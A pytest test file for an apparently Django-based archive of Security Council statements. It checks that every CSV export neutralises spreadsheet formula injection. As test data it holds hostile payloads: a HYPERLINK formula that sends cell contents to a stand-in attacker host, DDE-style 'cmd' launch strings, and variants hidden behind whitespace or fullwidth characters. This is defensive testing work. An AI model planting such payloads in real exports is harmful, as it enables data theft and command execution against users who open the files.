"""CSV formula injection: text that a spreadsheet would run as a formula ("=HYPERLINK(...)",
"+cmd", "-2+3", "@SUM(...)", a leading tab or carriage return) is written inert in every CSV
the archive serves or dumps (delegation, speaker, resolution and search exports, export_archive),
while JSON and JSON Lines carry the text unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import call_command

from archive.citations import Citation
from archive.importing import Writer
from archive.models import Delegation, Speaker
from archive.opendata.exports import csv_cell, starts_a_formula
from archive.parsing import ParsedMeeting, ParsedStatement
from archive.search import upkeep
from archive.stats import refresh_summaries

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click") formula probe',
    "+cmd|' /C calc'!A0 formula probe",
    "-2+3+cmd|' /C calc'!A0 formula probe",
    "@SUM(1+1)*cmd|' /C calc'!A0 formula probe",
    "\t=1+1 formula probe",
    "\r=1+1 formula probe",
]
RESOLUTION = 2532


def hostile_meeting() -> ParsedMeeting:
    statements = []
    for order, formula in enumerate(FORMULAS, start=1):
        cited = f"resolution {RESOLUTION} (2020)"
        text = f"{formula} as said in {cited}."
        start = text.index(cited)
        statements.append(
            ParsedStatement(
                order=order,
                speaker_label=f"Mr. {formula[:20]} (=Formulastan)",
                speaker=f"Mr. {formula[:20]}",
                delegation="=Formulastan",
                role="invitee",
                language="-French",
                paragraphs=(text,),
                citations=(Citation(start, start + len(cited), cited, RESOLUTION, 2020),),
            )
        )
    return ParsedMeeting(
        symbol="S/PV.9990",
        number=9990,
        resumption=None,
        date=dt.date(2021, 3, 1),
        source_kind="text",
        source_name="formulas.txt",
        statements=tuple(statements),
        topic="=cmd|' /C calc'!A0",
    )


@pytest.fixture(scope="module")
def formulas(django_db_setup, django_db_blocker, search_index):
    with django_db_blocker.unblock():
        assert Writer().write(hostile_meeting()).action == "created"
        refresh_summaries()
        upkeep.rebuild()
        yield Delegation.objects.get(name="=Formulastan")
        call_command("flush", interactive=False, verbosity=0)


def body(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def assert_inert(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for name, cell in row.items():
            assert not starts_a_formula(cell), (name, cell)


def texts(rows: list[dict[str, str]]) -> list[str]:
    """The statement texts as a spreadsheet shows them (without the apostrophe)."""
    return [r["text"].removeprefix("'") for r in rows]


@pytest.mark.parametrize(
    "hidden", [' =HYPERLINK("http://evil/?"&A1,"x")', "\u00a0=1+1", "\n=1+1", "＝1+1", "＋cmd", "  @SUM(A1)"]
)
def test_formulas_behind_white_space_or_in_fullwidth_forms_are_inert(hidden):
    assert csv_cell(hidden) == "'" + hidden
    assert starts_a_formula(hidden)


def test_csv_cell():
    assert [csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert csv_cell("Resolution 2532 (2020) = peace") == "Resolution 2532 (2020) = peace"
    assert csv_cell(-3) == -3 and csv_cell(None) is None and csv_cell(True) is True
    assert csv_cell(["=x"]) == '["=x"]'


@pytest.mark.parametrize(
    "url",
    [
        "/countries/{key}/statements.csv",
        "/speakers/{speaker}/statements.csv",
        f"/resolutions/{RESOLUTION}/statements.csv",
        "/search/export.csv?q=formula+probe",
    ],
)
def test_every_csv_export_writes_formulas_inert(client, formulas, url):
    speaker = Speaker.objects.filter(statements__delegation=formulas).first()
    path = url.format(key=formulas.key, speaker=speaker.slug)
    rows = list(csv.DictReader(io.StringIO(body(client.get(path)))))
    assert_inert(rows)
    as_json = json.loads(body(client.get(path.replace(".csv", ".json"))))
    assert texts(rows) == [r["text"] for r in as_json]
    said = {r["text"].split(" as said")[0] for r in as_json}
    expected = speaker.statements.all() if "speakers" in url else formulas.statements.all()
    assert said == {s.text.split(" as said")[0] for s in expected}
    assert "speakers" in url or said == set(FORMULAS)


def test_export_archive_csv_writes_formulas_inert(formulas, tmp_path):
    call_command("export_archive", "--format", "csv", "--output", str(tmp_path), "--no-progress")
    for name in ("statements", "meetings"):
        with (tmp_path / f"{name}.csv").open(newline="", encoding="utf-8") as f:
            assert_inert(list(csv.DictReader(f)))
    with (tmp_path / "statements.csv").open(newline="", encoding="utf-8") as f:
        shown = {t.split(" as said")[0] for t in texts(list(csv.DictReader(f)))}
    assert shown == set(FORMULAS)
